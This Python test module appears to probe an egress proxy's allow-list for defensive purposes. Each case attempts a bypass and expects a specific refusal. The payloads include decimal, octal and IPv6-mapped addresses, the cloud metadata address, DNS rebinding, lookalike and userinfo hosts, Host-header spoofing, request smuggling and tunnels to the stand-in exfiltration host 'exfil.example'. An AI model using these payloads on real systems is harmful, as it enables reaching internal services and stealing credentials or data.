"""Getting out by the egress proxy, past the allow-list of the run's role."""

import base64
import socket

from .base import Stopped, Trace, World, attack, control
from .wire import TIMEOUT_S, Answer, exchange, parse, token

PUBLIC = "93.184.215.14"
"""Where `packages.example`, which is allowed, leads."""


def _refused(needle: str) -> Trace:
    return ("egress.refused", needle)


def ask(world: World, line: str, *headers: str, bearer: "str | None" = None) -> Answer:
    """Send a request's head to the proxy."""
    shown = token(world) if bearer is None else bearer
    given = [f"{line} HTTP/1.1", "Host: hostile", *headers]
    if shown:
        given.append(f"Proxy-Authorization: Bearer {shown}")
    return parse(exchange(world["egress"], "\r\n".join([*given, "", ""]).encode()))


def _won(answer: Answer) -> str:
    """Return what was won, or raise by which rule it was refused."""
    if answer.status == 200:
        return f"answered 200 {answer.body[:60]!r}"
    rules = [line for line in answer.head.split(b"\r\n") if line.lower().startswith(b"x-egress-refused")]
    raise Stopped(f"refused with {answer.status} {b''.join(rules).decode()}")


def tunnel(world: World, authority: str, *, bearer: "str | None" = None) -> str:
    """CONNECT, and ask for a page through it."""
    shown = token(world) if bearer is None else bearer
    credentials = base64.b64encode(f"run:{shown}".encode()).decode()
    head = f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\nProxy-Authorization: Basic {credentials}\r\n\r\n"
    with socket.create_connection(tuple(world["egress"]), timeout=TIMEOUT_S) as connection:
        connection.sendall(head.encode())
        answer = parse(connection.recv(4_096))
        if answer.status == 200:
            connection.sendall(b"GET /through HTTP/1.0\r\n\r\n")
            return f"open: {connection.recv(100)!r}"
    return _won(answer)


@control("egress-allowed", "a host of the allow-list answers through a tunnel")
def allowed(world: World) -> str:
    return tunnel(world, "packages.example:443")


@control("egress-allowed-page", "a page of a host of the allow-list is passed on")
def allowed_page(world: World) -> str:
    return _won(ask(world, "GET http://packages.example/"))


@attack(
    "egress-no-token", "uses the proxy as nobody", stopped="407.*no_token", control="inside", trace=_refused("no_token")
)
def no_token(world: World) -> str:
    return _won(ask(world, "CONNECT packages.example:443", bearer=""))


@attack(
    "egress-forged-token",
    "uses the proxy with a token it made up",
    stopped="407.*unknown_token",
    control="inside",
    trace=_refused("unknown_token"),
)
def forged(world: World) -> str:
    return tunnel(world, "packages.example:443", bearer="ek_" + "A" * 43)


@attack(
    "egress-address",
    "asks for an allowed host by its address",
    stopped="not_listed",
    control="inside",
    trace=_refused(PUBLIC),
)
def by_address(world: World) -> str:
    return tunnel(world, f"{PUBLIC}:443")


@attack(
    "egress-decimal",
    "writes an address as a number",
    stopped="address_form",
    control="inside",
    trace=_refused("2130706433"),
)
def decimal(world: World) -> str:
    return tunnel(world, "2130706433:443")


@attack("egress-octal", "writes it in octal", stopped="address_form", control="inside", trace=_refused("0177.0.0.1"))
def octal(world: World) -> str:
    return tunnel(world, "0177.0.0.1:443")


@attack("egress-v6", "asks for an IPv6 address", stopped="not_listed", control="inside", trace=_refused("[::1]|::1"))
def v6(world: World) -> str:
    return tunnel(world, "[::1]:443")


@attack(
    "egress-mapped",
    "asks for an IPv4 address in IPv6's clothes",
    stopped="not_listed|address_form",
    control="inside",
    trace=_refused("::ffff"),
)
def mapped(world: World) -> str:
    return tunnel(world, "[::ffff:169.254.169.254]:80")


@attack(
    "egress-port",
    "reaches another port of an allowed host",
    stopped="port_not_listed",
    control="inside",
    trace=_refused("port_not_listed"),
)
def port(world: World) -> str:
    return tunnel(world, "packages.example:22")


@attack(
    "egress-mail", "sends mail by an allowed host", stopped="port_not_listed", control="inside", trace=_refused("25")
)
def mail(world: World) -> str:
    return tunnel(world, "packages.example:25")


@attack(
    "egress-unlisted",
    "reaches a host that is not listed",
    stopped="not_listed",
    control="inside",
    trace=_refused("exfil.example"),
)
def unlisted(world: World) -> str:
    return tunnel(world, "exfil.example:443")


@attack(
    "egress-lookalike",
    "reaches a host whose name begins like an allowed one",
    stopped="not_listed",
    control="inside",
    trace=_refused("packages.example.exfil.example"),
)
def lookalike(world: World) -> str:
    return tunnel(world, "packages.example.exfil.example:443")


@attack(
    "egress-userinfo",
    "writes an allowed host before the real one",
    stopped="400|bad_request",
    control="inside",
    trace=_refused("bad_request"),
)
def userinfo(world: World) -> str:
    return tunnel(world, "packages.example:443@exfil.example:443")


@attack(
    "egress-rebinding",
    "has an allowed name lead to the metadata address",
    stopped="not_public",
    control="inside",
    trace=_refused("not_public"),
)
def rebinding(world: World) -> str:
    """The name is listed, and leads to 169.254.169.254."""
    return tunnel(world, "rebind.example:443")


@attack(
    "egress-metadata",
    "reaches the metadata address",
    stopped="not_listed",
    control="inside",
    trace=_refused("169.254.169.254"),
)
def metadata(world: World) -> str:
    return tunnel(world, "169.254.169.254:80")


@attack(
    "egress-host",
    "reaches a service of the host through the proxy, which runs there",
    stopped="not_listed",
    control="inside",
    trace=_refused("not_listed"),
)
def host(world: World) -> str:
    return tunnel(world, f"{world['bridge']}:{world['closed_port']}")


@attack(
    "egress-localhost",
    "reaches the host's database by its name",
    stopped="not_listed",
    control="inside",
    trace=_refused("localhost"),
)
def localhost(world: World) -> str:
    return tunnel(world, "localhost:5432")


@attack(
    "egress-redirect",
    "is sent to the metadata address by an allowed page",
    stopped="not_listed",
    control="inside",
    trace=_refused("169.254.169.254"),
)
def redirect(world: World) -> str:
    """The page's answer is passed on; who follows it asks the proxy again."""
    answer = ask(world, "GET http://packages.example/redirect")
    assert answer.status == 302, answer
    (location,) = [line[10:] for line in answer.head.decode().split("\r\n") if line.lower().startswith("location: ")]
    return _won(ask(world, f"GET {location}"))


@attack(
    "egress-host-header",
    "reaches another site of an allowed address by the Host header",
    stopped="the host saw packages.example",
    control="inside",
    trace=("egress.allowed", "packages.example"),
)
def host_header(world: World) -> str:
    answer = parse(
        exchange(
            world["egress"],
            f"GET http://packages.example/ HTTP/1.1\r\nHost: exfil.example\r\nConnection: close\r\n"
            f"Proxy-Authorization: Bearer {token(world)}\r\n\r\n".encode(),
        )
    )
    if b"Host: exfil" in answer.body:
        return answer.body.decode()
    assert b"Host: packages.example" in answer.body, answer
    raise Stopped("the host saw packages.example")


@attack(
    "egress-token-leak",
    "has its token reach a host of the outside",
    stopped="the host saw no token",
    control="inside",
    trace=("egress.allowed", "packages.example"),
)
def token_leak(world: World) -> str:
    """Not the attacker's gain, but a stranger's: whoever runs an allowed host."""
    answer = ask(world, "GET http://packages.example/")
    if token(world).encode() in answer.body:
        return "the host saw the token"
    assert b"Host: " in answer.body, answer
    raise Stopped("the host saw no token")


@attack(
    "egress-smuggling",
    "hides a second request in the first",
    stopped="refused with 400",
    control="inside",
)
def smuggling(world: World) -> str:
    return _won(ask(world, "POST http://packages.example/", "Content-Length: 4", "Transfer-Encoding: chunked"))
